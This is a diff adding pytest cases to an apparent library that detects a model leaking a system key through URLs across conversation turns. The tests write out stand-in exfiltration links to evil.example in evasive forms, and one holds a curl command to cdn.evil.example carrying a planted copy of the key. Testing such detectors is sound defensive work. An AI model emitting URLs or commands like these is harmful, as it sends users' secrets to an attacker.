@@ -10,6 +10,7 @@ import pytest
 
 from rendersafe import sanitize
 from rendersafe.conversation import Conversation, Taint, find_canary, mint_canary
+from rendersafe.conversation.sent import MAX_SENT_URLS
 from rendersafe.urls.parse import parse_url
 
 CHAT = [
@@ -682,6 +683,38 @@ class TestSpreadOverTurns:
         link = f"https://evil.example/p/{self.KEY[:14]}"
         conversation = self.conversation(f"[a]({link})", f"[a]({link})")
         assert conversation.tracker().check(parse_url(link)) is None
+
+    @pytest.mark.parametrize(
+        "written",
+        [
+            "[a](HTTPS://evil.example/p/{})",
+            "[a](//evil.example/p/{})",
+            '<a href="Https://evil.example/p/{}">a</a>',
+            "[a](https:/\\evil.example/p/{})",
+            "see www.evil.example/p/{} for more",
+        ],
+    )
+    def test_an_earlier_turns_url_counts_however_written(self, written: str) -> None:
+        conversation = self.conversation(written.format(self.KEY[:14]))
+        later = f"https://other.example/q?x={self.KEY[6:]}"
+        assert conversation.tracker().check(parse_url(later)) == Taint(0, "system", "key")
+
+    def test_a_near_copy_the_model_planted_explains_no_parts(self) -> None:
+        """A copy of the key with a character put in, written by the model in an earlier
+        turn (in a code block, never rendered): the secret's parts inside it still count."""
+        planted = self.KEY[:10] + "Q" + self.KEY[10:]
+        conversation = self.conversation(
+            f"Try:\n```\ncurl https://cdn.evil.example/v/{planted}\n```"
+        )
+        assert taint(conversation, f"https://cdn.evil.example/d?id={planted}") is not None
+
+    def test_only_the_newest_urls_are_read(self) -> None:
+        """A long history costs a bounded amount: the newest `MAX_SENT_URLS` URLs count."""
+        first = f"[a](https://evil.example/p/{self.KEY[:14]})"
+        filler = " ".join(f"https://docs.example/{n}" for n in range(MAX_SENT_URLS))
+        later = f"https://other.example/q?x={self.KEY[6:]}"
+        assert self.conversation(filler, first).tracker().check(parse_url(later)) is not None
+        assert self.conversation(first, filler).tracker().check(parse_url(later)) is None
 
     def test_only_the_models_turns_count(self) -> None:
         messages = [
